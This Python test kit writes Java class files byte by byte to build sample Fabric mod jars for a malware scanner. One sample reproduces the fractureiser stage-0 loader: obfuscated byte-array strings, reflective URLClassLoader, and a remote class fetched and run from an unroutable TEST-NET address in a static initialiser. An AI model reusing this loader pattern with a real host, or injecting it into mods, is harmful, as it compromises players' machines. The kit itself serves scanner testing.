"""Test kit for the scan stage: a tiny class-file writer and the sample mods built with it.

Used by the scan tests of every tier, by ``bench/scan`` and by the demo's quarantined
release (``indexium_devstack.jars``). The classes are written byte by byte here, not
compiled: each sample says in Java what its bytecode does. Nothing in them is ever run.

Samples: a clean Fabric mod; a mod starting ``ProcessBuilder`` in its initialiser; a
benign reproduction of fractureiser's stage 0 (byte-array strings, ``URLClassLoader``
by reflection, ``getConstructor().newInstance()``, ``Method.invoke``) pointing at an
unroutable address; and jars nesting them.
"""

from __future__ import annotations

import io
import struct
import zipfile

from indexium_devstack import jars as devjars

# ---- a class-file writer ----------------------------------------------------------------------

OPS = {
    "nop": 0x00, "aconst_null": 0x01, "iconst_m1": 0x02, "iconst_0": 0x03, "bipush": 0x10, "sipush": 0x11,
    "ldc": 0x12, "ldc_w": 0x13, "iload": 0x15, "aload": 0x19, "aload_0": 0x2A, "istore": 0x36,
    "astore": 0x3A, "aaload": 0x32, "bastore": 0x54, "castore": 0x55, "aastore": 0x53, "pop": 0x57,
    "dup": 0x59, "iadd": 0x60, "ixor": 0x82, "i2b": 0x91, "ifeq": 0x99, "ifne": 0x9A, "goto": 0xA7,
    "tableswitch": 0xAA, "lookupswitch": 0xAB, "ireturn": 0xAC, "areturn": 0xB0, "return": 0xB1,
    "getstatic": 0xB2, "putstatic": 0xB3, "getfield": 0xB4, "invokevirtual": 0xB6,
    "invokespecial": 0xB7, "invokestatic": 0xB8, "invokeinterface": 0xB9, "invokedynamic": 0xBA,
    "new": 0xBB, "newarray": 0xBC, "anewarray": 0xBD, "arraylength": 0xBE, "athrow": 0xBF,
    "checkcast": 0xC0, "lconst_0": 0x09, "pop2": 0x58, "wide": 0xC4, "iinc": 0x84,
}
ACC_PUBLIC, ACC_STATIC, ACC_PRIVATE = 0x0001, 0x0008, 0x0002
T_CHAR, T_BYTE = 5, 8


class ClassWriter:
    def __init__(self, name: str, super_name: str = "java/lang/Object", interfaces=(),
                 annotations=(), access: int = 0x0021, major: int = 61):
        self.name, self.super_name, self.interfaces = name, super_name, list(interfaces)
        self.annotations, self.access, self.major = list(annotations), access, major
        self._pool: list[bytes] = []
        self._index: dict[bytes, int] = {}
        self.methods: list[Code] = []
        self.bootstraps: list[tuple[int, list[int]]] = []

    # constant pool
    def _add(self, entry: bytes, slots: int = 1) -> int:
        if entry in self._index:
            return self._index[entry]
        index = sum(2 if e[0] in (5, 6) else 1 for e in self._pool) + 1
        self._pool.append(entry)
        self._index[entry] = index
        return index

    def utf8(self, s: str) -> int:
        raw = s.encode("utf-8")
        return self._add(b"\x01" + struct.pack(">H", len(raw)) + raw)

    def cls(self, name: str) -> int:
        return self._add(b"\x07" + struct.pack(">H", self.utf8(name)))

    def string(self, s: str) -> int:
        return self._add(b"\x08" + struct.pack(">H", self.utf8(s)))

    def integer(self, v: int) -> int:
        return self._add(b"\x03" + struct.pack(">i", v))

    def long(self, v: int) -> int:
        return self._add(b"\x05" + struct.pack(">q", v))

    def nat(self, name: str, desc: str) -> int:
        return self._add(b"\x0c" + struct.pack(">HH", self.utf8(name), self.utf8(desc)))

    def ref(self, owner: str, name: str, desc: str, kind: int = 10) -> int:
        return self._add(bytes([kind]) + struct.pack(">HH", self.cls(owner), self.nat(name, desc)))

    def method_handle(self, ref_kind: int, owner: str, name: str, desc: str) -> int:
        return self._add(b"\x0f" + bytes([ref_kind]) + struct.pack(">H", self.ref(owner, name, desc)))

    def method_type(self, desc: str) -> int:
        return self._add(b"\x10" + struct.pack(">H", self.utf8(desc)))

    def indy(self, bootstrap: int, name: str, desc: str) -> int:
        return self._add(b"\x12" + struct.pack(">HH", bootstrap, self.nat(name, desc)))

    def bootstrap(self, handle: int, args: list[int]) -> int:
        self.bootstraps.append((handle, args))
        return len(self.bootstraps) - 1

    def method_reference(self, owner: str, name: str, desc: str, erased: str, instantiated: str) -> int:
        """A bootstrap method making a lambda of ``owner::name`` (a virtual method reference,
        as javac compiles ``Runtime::exec``): LambdaMetafactory.metafactory with the erased and
        the instantiated method types. The target is only a method handle in the bootstrap's
        arguments, never a direct call."""
        meta = self.method_handle(6, "java/lang/invoke/LambdaMetafactory", "metafactory",
                                  "(Ljava/lang/invoke/MethodHandles$Lookup;Ljava/lang/String;Ljava/lang/invoke/MethodType;"
                                  "Ljava/lang/invoke/MethodType;Ljava/lang/invoke/MethodHandle;Ljava/lang/invoke/MethodType;)"
                                  "Ljava/lang/invoke/CallSite;")
        target = self.method_handle(5, owner, name, desc)
        return self.bootstrap(meta, [self.method_type(erased), target, self.method_type(instantiated)])

    def method(self, name: str, desc: str, access: int = ACC_PUBLIC, annotations=()) -> "Code":
        code = Code(self, name, desc, access, list(annotations))
        self.methods.append(code)
        return code

    def _annotations_attr(self, types: list[str]) -> bytes:
        body = struct.pack(">H", len(types)) + b"".join(struct.pack(">HH", self.utf8(t), 0) for t in types)
        return struct.pack(">HI", self.utf8("RuntimeVisibleAnnotations"), len(body)) + body

    def to_bytes(self) -> bytes:
        this, sup = self.cls(self.name), self.cls(self.super_name)
        ifaces = [self.cls(i) for i in self.interfaces]
        methods = [m.to_bytes() for m in self.methods]  # adds to the pool
        attrs = []
        if self.annotations:
            attrs.append(self._annotations_attr(self.annotations))
        if self.bootstraps:
            body = struct.pack(">H", len(self.bootstraps)) + b"".join(
                struct.pack(">HH", h, len(a)) + b"".join(struct.pack(">H", x) for x in a)
                for h, a in self.bootstraps
            )
            attrs.append(struct.pack(">HI", self.utf8("BootstrapMethods"), len(body)) + body)
        out = bytearray(struct.pack(">IHH", 0xCAFEBABE, 0, self.major))
        count = sum(2 if e[0] in (5, 6) else 1 for e in self._pool) + 1
        out += struct.pack(">H", count) + b"".join(self._pool)
        out += struct.pack(">HHHH", self.access, this, sup, len(ifaces))
        out += b"".join(struct.pack(">H", i) for i in ifaces)
        out += struct.pack(">H", 0)  # fields
        out += struct.pack(">H", len(methods)) + b"".join(methods)
        out += struct.pack(">H", len(attrs)) + b"".join(attrs)
        return bytes(out)


class Code:
    """A method body assembled instruction by instruction (branch targets by label)."""

    def __init__(self, cw: ClassWriter, name: str, desc: str, access: int, annotations: list[str]):
        self.cw, self.name, self.desc, self.access, self.annotations = cw, name, desc, access, annotations
        self.buf = bytearray()
        self.labels: dict[str, int] = {}
        self.fixups: list[tuple[int, int, str, int]] = []  # (at, base pc, label, width)
        self.handlers: list[tuple[str, str, str, str | None]] = []
        self.abstract = False

    def op(self, name: str, *operands: int) -> "Code":
        self.buf.append(OPS[name])
        self.buf += bytes(operands)
        return self

    def u2op(self, name: str, index: int) -> "Code":
        self.buf.append(OPS[name])
        self.buf += struct.pack(">H", index)
        return self

    def label(self, name: str) -> "Code":
        self.labels[name] = len(self.buf)
        return self

    def jump(self, name: str, target: str) -> "Code":
        pc = len(self.buf)
        self.buf.append(OPS[name])
        self.fixups.append((len(self.buf), pc, target, 2))
        self.buf += b"\0\0"
        return self

    def try_catch(self, start: str, end: str, handler: str, catch: str | None = "java/lang/Throwable") -> "Code":
        self.handlers.append((start, end, handler, catch))
        return self

    def iconst(self, v: int) -> "Code":
        if -1 <= v <= 5:
            return self.op("iconst_0") if v == 0 else self._raw(0x03 + v)
        if -128 <= v <= 127:
            return self.op("bipush", v & 0xFF)
        return self.u2op("sipush", v & 0xFFFF)

    def _raw(self, opcode: int) -> "Code":
        self.buf.append(opcode)
        return self

    def ldc(self, s: str) -> "Code":
        idx = self.cw.string(s)
        return self.op("ldc", idx) if idx < 256 else self.u2op("ldc_w", idx)

    def ldc_class(self, name: str) -> "Code":
        idx = self.cw.cls(name)
        return self.op("ldc", idx) if idx < 256 else self.u2op("ldc_w", idx)

    def invoke(self, kind: str, owner: str, name: str, desc: str) -> "Code":
        if kind == "invokeinterface":
            idx = self.cw.ref(owner, name, desc, kind=11)
            from_desc = _arg_count(desc) + 1
            return self.u2op(kind, idx)._raw(from_desc)._raw(0)
        return self.u2op(kind, self.cw.ref(owner, name, desc))

    def new(self, cls: str) -> "Code":
        return self.u2op("new", self.cw.cls(cls))

    def anewarray(self, cls: str) -> "Code":
        return self.u2op("anewarray", self.cw.cls(cls))

    def getstatic(self, owner: str, name: str, desc: str) -> "Code":
        return self.u2op("getstatic", self.cw.ref(owner, name, desc, kind=9))

    def astore(self, n: int) -> "Code":
        return self.op("astore", n)

    def aload(self, n: int) -> "Code":
        return self.op("aload", n)

    def byte_array(self, data: bytes) -> "Code":
        """``new byte[]{...}`` the way javac writes it: dup, index, value, bastore per element."""
        self.iconst(len(data)).op("newarray", T_BYTE)
        for i, b in enumerate(data):
            self.op("dup").iconst(i).iconst(b - 256 if b > 127 else b).op("bastore")
        return self

    def string_from_bytes(self, text: str) -> "Code":
        """``new String(new byte[]{...})``."""
        self.new("java/lang/String").op("dup").byte_array(text.encode())
        return self.invoke("invokespecial", "java/lang/String", "<init>", "([B)V")

    def println(self, text: str) -> "Code":
        self.getstatic("java/lang/System", "out", "Ljava/io/PrintStream;").ldc(text)
        return self.invoke("invokevirtual", "java/io/PrintStream", "println", "(Ljava/lang/String;)V")

    def to_bytes(self) -> bytes:
        cw = self.cw
        name, desc = cw.utf8(self.name), cw.utf8(self.desc)
        attrs = []
        if not self.abstract:
            code = bytearray(self.buf)
            for at, base, target, width in self.fixups:
                code[at : at + width] = struct.pack(">h", self.labels[target] - base)
            table = b"".join(
                struct.pack(">HHHH", self.labels[s], self.labels[e], self.labels[h], cw.cls(c) if c else 0)
                for s, e, h, c in self.handlers
            )
            body = struct.pack(">HHI", 32, 32, len(code)) + bytes(code)
            body += struct.pack(">H", len(self.handlers)) + table + struct.pack(">H", 0)
            attrs.append(struct.pack(">HI", cw.utf8("Code"), len(body)) + body)
        if self.annotations:
            attrs.append(cw._annotations_attr(self.annotations))
        return struct.pack(">HHHH", self.access, name, desc, len(attrs)) + b"".join(attrs)


def _arg_count(desc: str) -> int:
    n, i = 0, 1
    while desc[i] != ")":
        while desc[i] == "[":
            i += 1
        i = desc.index(";", i) + 1 if desc[i] == "L" else i + 1
        n += 2 if desc[i - 1] in "JD" and desc[i - 2] != "[" else 1
    return n


# ---- sample classes ---------------------------------------------------------------------------

FABRIC_INIT = "net/fabricmc/api/ModInitializer"
UNROUTABLE = "http://192.0.2.1/"  # TEST-NET-1: documentation only, never reachable


def clean_initializer(pkg: str = "com/example/clean") -> bytes:
    """``class CleanMod implements ModInitializer { void onInitialize() { println(...); Helper.greet("x"); } }``"""
    cw = ClassWriter(f"{pkg}/CleanMod", interfaces=[FABRIC_INIT])
    init = cw.method("<init>", "()V")
    init.op("aload_0").invoke("invokespecial", "java/lang/Object", "<init>", "()V").op("return")
    m = cw.method("onInitialize", "()V")
    m.println("Hello from a clean mod").ldc("world")
    m.invoke("invokestatic", f"{pkg}/Helper", "greet", "(Ljava/lang/String;)Ljava/lang/String;").op("pop")
    m.op("return")
    return cw.to_bytes()


def clean_helper(pkg: str = "com/example/clean") -> bytes:
    """A helper with branches, a switch, a lambda and string concatenation (exercises the walker)."""
    cw = ClassWriter(f"{pkg}/Helper")
    concat = cw.method_handle(6, "java/lang/invoke/StringConcatFactory", "makeConcatWithConstants",
                              "(Ljava/lang/invoke/MethodHandles$Lookup;Ljava/lang/String;"
                              "Ljava/lang/invoke/MethodType;Ljava/lang/String;[Ljava/lang/Object;)"
                              "Ljava/lang/invoke/CallSite;")
    bsm = cw.bootstrap(concat, [cw.string("Hello, \u0001!")])
    m = cw.method("greet", "(Ljava/lang/String;)Ljava/lang/String;", ACC_PUBLIC | ACC_STATIC)
    m.aload(0).u2op("invokedynamic", cw.indy(bsm, "makeConcatWithConstants",
                                              "(Ljava/lang/String;)Ljava/lang/String;"))._raw(0)._raw(0)
    m.op("areturn")
    s = cw.method("pick", "(I)I", ACC_PUBLIC | ACC_STATIC)
    s.op("iload", 0)
    pc = len(s.buf)
    s.buf.append(OPS["tableswitch"])
    s.buf += b"\0" * ((4 - (pc + 1) % 4) % 4)
    default_at = len(s.buf)
    s.buf += struct.pack(">iii", 0, 0, 1)
    s.buf += struct.pack(">ii", 0, 0)
    s.label("one").iconst(1).op("ireturn").label("two").iconst(2).op("ireturn").label("other").iconst(0).op("ireturn")
    s.buf[default_at : default_at + 4] = struct.pack(">i", s.labels["other"] - pc)
    s.buf[default_at + 12 : default_at + 20] = struct.pack(">ii", s.labels["one"] - pc, s.labels["two"] - pc)
    loop = cw.method("count", "(Ljava/lang/String;)I", ACC_PUBLIC | ACC_STATIC)
    loop.iconst(0).op("istore", 1).label("top").op("iload", 1).iconst(10).op("iadd").op("istore", 1)
    loop.op("iinc", 1, 1).op("iload", 1).jump("ifeq", "top").op("iload", 1).op("ireturn")
    return cw.to_bytes()


def process_builder_initializer(pkg: str = "com/example/pb") -> bytes:
    """``void onInitialize() { new ProcessBuilder(new String[]{"true"}).start(); }``"""
    cw = ClassWriter(f"{pkg}/PbMod", interfaces=[FABRIC_INIT])
    init = cw.method("<init>", "()V")
    init.op("aload_0").invoke("invokespecial", "java/lang/Object", "<init>", "()V").op("return")
    m = cw.method("onInitialize", "()V")
    m.new("java/lang/ProcessBuilder").op("dup").iconst(1).anewarray("java/lang/String")
    m.op("dup").iconst(0).ldc("true").op("aastore")
    m.invoke("invokespecial", "java/lang/ProcessBuilder", "<init>", "([Ljava/lang/String;)V")
    m.invoke("invokevirtual", "java/lang/ProcessBuilder", "start", "()Ljava/lang/Process;").op("pop")
    m.op("return")
    return cw.to_bytes()


def runtime_exec_method(pkg: str = "com/example/tools") -> bytes:
    """``static void openFolder(String p) { Runtime.getRuntime().exec(p); }`` -- not at start-up."""
    cw = ClassWriter(f"{pkg}/Folders")
    m = cw.method("openFolder", "(Ljava/lang/String;)V", ACC_PUBLIC | ACC_STATIC)
    m.invoke("invokestatic", "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;").aload(0)
    m.invoke("invokevirtual", "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;").op("pop")
    m.op("return")
    return cw.to_bytes()


def exec_through_a_lambda(pkg: str = "a") -> bytes:
    """``Runtime::exec`` only as a method handle in a bootstrap argument, no direct call."""
    cw = ClassWriter(f"{pkg}/Lambda")
    bsm = cw.method_reference("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;",
                              "(Ljava/lang/Object;)Ljava/lang/Object;", "(Ljava/lang/String;)Ljava/lang/Process;")
    m = cw.method("<clinit>", "()V", ACC_STATIC)
    m.op("aconst_null")
    m.u2op("invokedynamic", cw.indy(bsm, "apply", "(Ljava/lang/Runtime;)Ljava/util/function/Function;"))._raw(0)._raw(0)
    m.op("pop").op("return")
    return cw.to_bytes()

def update_checker(pkg: str = "com/example/tools") -> bytes:
    """``static void check() throws Exception { new URL("https://...").openStream().close(); }``"""
    cw = ClassWriter(f"{pkg}/UpdateCheck")
    m = cw.method("check", "()V", ACC_PUBLIC | ACC_STATIC)
    m.new("java/net/URL").op("dup").ldc("https://example.org/latest.json")
    m.invoke("invokespecial", "java/net/URL", "<init>", "(Ljava/lang/String;)V")
    m.invoke("invokevirtual", "java/net/URL", "openStream", "()Ljava/io/InputStream;")
    m.invoke("invokevirtual", "java/io/InputStream", "close", "()V").op("return")
    return cw.to_bytes()


def constant_reflection(pkg: str = "com/example/compat") -> bytes:
    """``static { Class.forName("net.optifine.Config").getMethod("isShaders").invoke(null); }`` -- constant names."""
    cw = ClassWriter(f"{pkg}/OptifineCompat")
    m = cw.method("<clinit>", "()V", ACC_STATIC)
    m.label("start").ldc("net.optifine.Config")
    m.invoke("invokestatic", "java/lang/Class", "forName", "(Ljava/lang/String;)Ljava/lang/Class;")
    m.ldc("isShaders").iconst(0).anewarray("java/lang/Class")
    m.invoke("invokevirtual", "java/lang/Class", "getMethod",
             "(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;")
    m.op("aconst_null").iconst(0).anewarray("java/lang/Object")
    m.invoke("invokevirtual", "java/lang/reflect/Method", "invoke",
             "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;").op("pop")
    m.label("end").jump("goto", "done").label("handler").op("pop").label("done").op("return")
    m.try_catch("start", "end", "handler")
    return cw.to_bytes()


def fractureiser_stage0(cls_name: str = "com/example/victim/VictimMod", url: str = UNROUTABLE) -> bytes:
    """A benign reproduction of fractureiser's stage 0, shaped like the injected code::

        static { _d1385bd3c36f464882460aa4f0484c53(); }          // appended to <clinit>
        private static void _d1385bd3c36f464882460aa4f0484c53() {
            try {
                Class c = Class.forName(new String(new byte[]{106, 97, 118, 97, ...}));  // "java.net.URLClassLoader"
                Object loader = c.getConstructor(URL[].class)
                                 .newInstance(new Object[]{new URL[]{new URL(new String(new byte[]{...}))}});
                Class payload = (Class) c.getMethod(new String(new byte[]{...}), String.class)  // "loadClass"
                                 .invoke(loader, new Object[]{"Dev"});
                payload.getMethod(new String(new byte[]{...}), String.class)                     // "run"
                       .invoke(null, new Object[]{"-114.-18.38.108.-100"});
            } catch (Throwable t) {}
        }

    The URL is TEST-NET-1 (never routable) and nothing here is ever executed.
    """
    cw = ClassWriter(cls_name)
    payload = "_d1385bd3c36f464882460aa4f0484c53"
    clinit = cw.method("<clinit>", "()V", ACC_STATIC)
    clinit.println("victim mod loaded")
    clinit.invoke("invokestatic", cls_name, payload, "()V").op("return")
    m = cw.method(payload, "()V", ACC_PRIVATE | ACC_STATIC)
    m.label("start")
    m.string_from_bytes("java.net.URLClassLoader")
    m.invoke("invokestatic", "java/lang/Class", "forName", "(Ljava/lang/String;)Ljava/lang/Class;")
    m.astore(0)
    # loader = c.getConstructor(URL[].class).newInstance(new Object[]{ new URL[]{ new URL(...) } })
    m.aload(0).iconst(1).anewarray("java/lang/Class").op("dup").iconst(0).ldc_class("[Ljava/net/URL;").op("aastore")
    m.invoke("invokevirtual", "java/lang/Class", "getConstructor",
             "([Ljava/lang/Class;)Ljava/lang/reflect/Constructor;")
    m.iconst(1).anewarray("java/lang/Object").op("dup").iconst(0)
    m.iconst(1).anewarray("java/net/URL").op("dup").iconst(0)
    m.new("java/net/URL").op("dup").string_from_bytes(url)
    m.invoke("invokespecial", "java/net/URL", "<init>", "(Ljava/lang/String;)V").op("aastore")
    m.op("aastore")
    m.invoke("invokevirtual", "java/lang/reflect/Constructor", "newInstance",
             "([Ljava/lang/Object;)Ljava/lang/Object;")
    m.astore(1)
    # payload = (Class) c.getMethod("loadClass", String.class).invoke(loader, "Dev")
    m.aload(0).string_from_bytes("loadClass")
    m.iconst(1).anewarray("java/lang/Class").op("dup").iconst(0).ldc_class("java/lang/String").op("aastore")
    m.invoke("invokevirtual", "java/lang/Class", "getMethod",
             "(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;")
    m.aload(1).iconst(1).anewarray("java/lang/Object").op("dup").iconst(0).ldc("Dev").op("aastore")
    m.invoke("invokevirtual", "java/lang/reflect/Method", "invoke",
             "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;")
    m.u2op("checkcast", cw.cls("java/lang/Class")).astore(2)
    # payload.getMethod("run", String.class).invoke(null, "-114.-18.38.108.-100")
    m.aload(2).string_from_bytes("run")
    m.iconst(1).anewarray("java/lang/Class").op("dup").iconst(0).ldc_class("java/lang/String").op("aastore")
    m.invoke("invokevirtual", "java/lang/Class", "getMethod",
             "(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;")
    m.op("aconst_null").iconst(1).anewarray("java/lang/Object").op("dup").iconst(0)
    m.ldc("-114.-18.38.108.-100").op("aastore")
    m.invoke("invokevirtual", "java/lang/reflect/Method", "invoke",
             "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;").op("pop")
    m.label("end").jump("goto", "done").label("handler").astore(0).label("done").op("return")
    m.try_catch("start", "end", "handler")
    return cw.to_bytes()


# ---- sample jars ------------------------------------------------------------------------------

def clean_mod_jar(mod_id: str = "cleanmod", version: str = "1.0.0", **opts) -> bytes:
    pkg = f"com/example/{mod_id}"
    extra = {f"{pkg}/CleanMod.class": clean_initializer(pkg), f"{pkg}/Helper.class": clean_helper(pkg),
             **opts.pop("extra_files", {})}
    return devjars.fabric_jar(mod_id, version, extra_files=extra, **opts)


def process_builder_jar(mod_id: str = "pbmod", version: str = "1.0.0", **opts) -> bytes:
    pkg = f"com/example/{mod_id}"
    extra = {f"{pkg}/PbMod.class": process_builder_initializer(pkg), f"{pkg}/Helper.class": clean_helper(pkg)}
    return devjars.fabric_jar(mod_id, version, extra_files=extra, **opts)


def fractureiser_jar(mod_id: str = "victimmod", version: str = "1.0.0", **opts) -> bytes:
    pkg = f"com/example/{mod_id}"
    extra = {f"{pkg}/VictimMod.class": fractureiser_stage0(f"{pkg}/VictimMod"),
             f"{pkg}/Helper.class": clean_helper(pkg)}
    return devjars.fabric_jar(mod_id, version, extra_files=extra, **opts)


def nesting_jar(inner: bytes, mod_id: str = "bundle", version: str = "1.0.0", **opts) -> bytes:
    """A clean Fabric mod carrying ``inner`` as jar-in-jar (``META-INF/jars/inner.jar``, stored)."""
    pkg = f"com/example/{mod_id}"
    extra = {f"{pkg}/CleanMod.class": clean_initializer(pkg)}
    return devjars.fabric_jar(mod_id, version, extra_files=extra,
                              nested_jars=[("META-INF/jars/inner-1.0.0.jar", inner)], **opts)


def zip_entries(entries: list[tuple[str, bytes, bool]], *, data_descriptors: bool = False) -> bytes:
    """Plain zip of (name, data, deflate) entries; ``data_descriptors`` streams every entry."""
    return devjars.build_jar(entries, data_descriptors=data_descriptors)


def zip_with(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in entries:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()
